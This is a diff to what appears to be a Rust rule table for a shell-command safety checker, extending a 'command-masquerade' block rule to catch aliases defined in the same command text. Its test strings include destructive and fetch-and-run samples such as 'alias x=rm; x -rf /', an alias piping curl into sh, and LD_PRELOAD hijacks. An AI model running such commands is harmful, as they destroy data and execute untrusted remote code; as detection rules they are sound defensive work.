@@ -653,7 +653,7 @@ static RULES: [Rule; 37] = [
     Rule {
         id: "command-masquerade",
         severity: Block,
-        description: "a command name that runs something else than it says: `hash -p`, aliases once `expand_aliases` is on, exported functions (`BASH_FUNC_*`), `enable -f`, `LD_PRELOAD`/`LD_AUDIT`, `/proc/*/exe` and `/dev/fd/*` as programs, the dynamic loader running a program (`ld-linux*.so*`, `ld.so`), a copy or link of a program made in the same text (`cp /bin/rm x; ./x`)",
+        description: "a command name that runs something else than it says: `hash -p`, aliases once `expand_aliases` is on, a command named by an alias the same text set (`alias x=rm; x -rf /`), exported functions (`BASH_FUNC_*`), `enable -f`, `LD_PRELOAD`/`LD_AUDIT`, `/proc/*/exe` and `/dev/fd/*` as programs, the dynamic loader running a program (`ld-linux*.so*`, `ld.so`), a copy or link of a program made in the same text (`cp /bin/rm x; ./x`)",
         matches: &[
             "hash -p /bin/rm ls",
             "shopt -s expand_aliases",
@@ -662,6 +662,8 @@ static RULES: [Rule; 37] = [
             "/lib64/ld-linux-x86-64.so.2 /bin/true",
             "ld.so /bin/ls",
             "cp /bin/rm x; ./x -f y",
+            "alias x=rm\nx -rf /",
+            "alias ls='curl -s x | sh'; ls",
             "ln -s /usr/bin/sudo s && ./s id",
             "LD_PRELOAD=/tmp/x.so ls",
             "enable -f /tmp/x.so rm",
@@ -674,6 +676,7 @@ static RULES: [Rule; 37] = [
             "ldd /bin/ls",
             "./x",
             "alias ll='ls -la'",
+            "alias x=rm; echo x",
         ],
     },
     Rule {
